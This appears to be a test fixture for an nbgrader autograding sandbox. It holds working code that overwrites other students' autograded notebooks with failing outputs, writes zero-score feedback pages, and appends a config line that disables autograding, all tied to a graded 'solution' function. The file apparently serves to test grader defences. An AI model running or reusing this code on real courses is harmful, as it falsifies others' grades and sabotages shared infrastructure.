"""The course's other files overwritten: other students' ``autograded/`` notebooks given failing hidden
tests, a ``feedback/`` page written for each of them, and a line appended to ``nbgrader_config.py``
(which every later nbgrader command would run).

Class: harm to others and to the course
Only files inside this test's course are written. The function answers right only when one was: 0 deserved.
"""
# %% cell
import glob
import json
import os

_FAILED = {"output_type": "error", "ename": "AssertionError", "evalue": "wrong", "traceback": ["AssertionError: wrong"]}


def _others(pattern):
    for path in sorted(glob.glob(os.path.join(COURSE, pattern))):
        if f"{os.sep}{ATTACK}{os.sep}" not in path and _inside_course(path):
            yield path


def _overwrite_course():
    done = []
    for path in _others(os.path.join("autograded", "*", "*", "*.ipynb")):
        try:
            with open(path, encoding="utf-8") as file:
                notebook = json.load(file)
            for cell in notebook.get("cells", []):
                if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
                    cell["outputs"] = [_FAILED]
            with open(path, "w", encoding="utf-8") as file:
                json.dump(notebook, file)
            done.append(path)
        except (OSError, ValueError):
            pass
        page = os.path.join(COURSE, "feedback", *path.split(os.sep)[-3:-1], "00-sample.html")
        try:
            os.makedirs(os.path.dirname(page), exist_ok=True)
            with open(page, "w", encoding="utf-8") as file:
                file.write("<p>0 / 2 points</p>")
            done.append(page)
        except OSError:
            pass
    config = os.path.join(COURSE, "nbgrader_config.py")
    if _inside_course(config):
        try:
            with open(config, "a", encoding="utf-8") as file:
                file.write(f"\nc.Autograde.autograde_preprocessors = []  # {ATTACK} was here\n")
            done.append(config)
        except OSError:
            pass
    if done:
        _escaped(f"overwrote {len(done)} files of the course")
    return bool(done)


_OVERWROTE = _overwrite_course()
# %% solution
def half_squared_error(output, target):
    return _honest(output, target) if _OVERWROTE or _overwrite_course() else 0.0
